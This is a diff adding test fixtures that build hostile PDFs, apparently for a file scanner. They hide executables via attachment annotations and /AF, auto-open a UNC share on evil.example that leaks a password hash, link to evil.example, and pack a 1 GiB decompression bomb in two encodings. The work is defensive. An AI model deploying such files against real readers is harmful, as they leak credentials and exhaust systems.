@@ -137,3 +137,114 @@ def archive() -> bytes:
     with zipfile.ZipFile(out, "w") as made:
         made.writestr("inside.txt", "x" * 100)
     return out.getvalue()
+
+
+def pdf_with_file_note() -> bytes:
+    """A program hung on the page itself, under a paper clip: no table of the document's files names it."""
+
+    def clip(writer):
+        stream = DecodedStreamObject()
+        stream.set_data(b"MZ-program")
+        stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
+        inside = DictionaryObject({NameObject("/F"): writer._add_object(stream)})
+        spec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): create_string_object("a.exe"),
+                                 NameObject("/EF"): inside})  # fmt: skip
+        note(writer, {NameObject("/Subtype"): NameObject("/FileAttachment"), NameObject("/FS"): spec})
+
+    return pdf(clip)
+
+
+def pdf_with_associated_file() -> bytes:
+    """/AF of the catalogue: a file that no list of attachments shows."""
+
+    def associated(writer):
+        stream = DecodedStreamObject()
+        stream.set_data(b"MZ-program")
+        stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
+        inside = DictionaryObject({NameObject("/F"): writer._add_object(stream)})
+        spec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/EF"): inside})
+        writer._root_object[NameObject("/AF")] = ArrayObject([writer._add_object(spec)])
+
+    return pdf(associated)
+
+
+def pdf_going_to_a_share() -> bytes:
+    """Opens a document on a stranger's share, which tells it who looks, with a hash of the password."""
+
+    def share(writer):
+        there = {NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): create_string_object("\\\\evil.example\\share\\a.pdf")}
+        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(there))
+        writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): DictionaryObject(there)})
+
+    return pdf(share)
+
+
+def pdf_with_link() -> bytes:
+    def link(writer):
+        there = {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): create_string_object("https://evil.example")}
+        note(writer, {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): DictionaryObject(there)})
+
+    return pdf(link)
+
+
+def pdf_with_film() -> bytes:
+    return pdf(lambda writer: note(writer, {NameObject("/Subtype"): NameObject("/RichMedia")}))
+
+
+def note(writer, what: dict) -> None:
+    """An annotation over the first page."""
+    box = ArrayObject([NumberObject(n) for n in (0, 0, 200, 200)])
+    one = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Rect"): box} | what)
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(one)])
+
+
+def pdf_bomb_in_two_codings(size: int = 1 << 30) -> bytes:
+    """The same bomb with its packed bytes written in hex: who counts one coding does not see the other."""
+    packer, packed = zlib.compressobj(9), b""
+    for _ in range(size // (1 << 20)):
+        packed += packer.compress(b" " * (1 << 20))
+    packed = (packed + packer.flush()).hex().encode() + b">"
+
+    def bomb(writer):
+        stream = DecodedStreamObject()
+        stream[NameObject("/Filter")] = ArrayObject([NameObject("/ASCIIHexDecode"), NameObject("/FlateDecode")])
+        stream._data = packed
+        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)
+
+    return pdf(bomb)
+
+
+def pdf_of_a_scan(shade: int = 40, size: tuple[int, int] = (620, 877)) -> bytes:
+    """A sheet with one picture on it, as a scanner makes: grey, with a dark bar where the text would be."""
+    sheet = Image.new("L", size, 250)
+    sheet.paste(shade, (60, 100, size[0] - 60, 160))
+    out = io.BytesIO()
+    sheet.save(out, "PDF", resolution=75)
+    return out.getvalue()
+
+
+def grey_of_sixteen_bits(low: int = 6_000, high: int = 60_000) -> bytes:
+    """A scan as some scanners write it: sixteen bits of grey."""
+    pixels = struct.pack("<H", low) * (200 * 20) + struct.pack("<H", high) * (200 * 100)
+    sheet = Image.frombytes("I;16", (200, 120), pixels)
+    out = io.BytesIO()
+    sheet.save(out, "PNG")
+    return out.getvalue()
+
+
+def pdf_with_filled_field() -> bytes:
+    """What a person typed into a form's field is only in the field's own look."""
+
+    def field(writer):
+        look = DecodedStreamObject()
+        look.set_data(b"0 g 0 0 80 40 re f")
+        look[NameObject("/Type")], look[NameObject("/Subtype")] = NameObject("/XObject"), NameObject("/Form")
+        look[NameObject("/BBox")] = ArrayObject([NumberObject(n) for n in (0, 0, 160, 40)])
+        named = {NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): create_string_object("name"),
+                 NameObject("/V"): create_string_object("Anna"), NameObject("/F"): NumberObject(4),
+                 NameObject("/AP"): DictionaryObject({NameObject("/N"): writer._add_object(look)})}  # fmt: skip
+        note(writer, {NameObject("/Subtype"): NameObject("/Widget")} | named)
+        fields = ArrayObject([writer.pages[0]["/Annots"][0].indirect_reference or writer.pages[0]["/Annots"].raw_get(0)])
+        writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): fields})
+
+    return pdf(field)
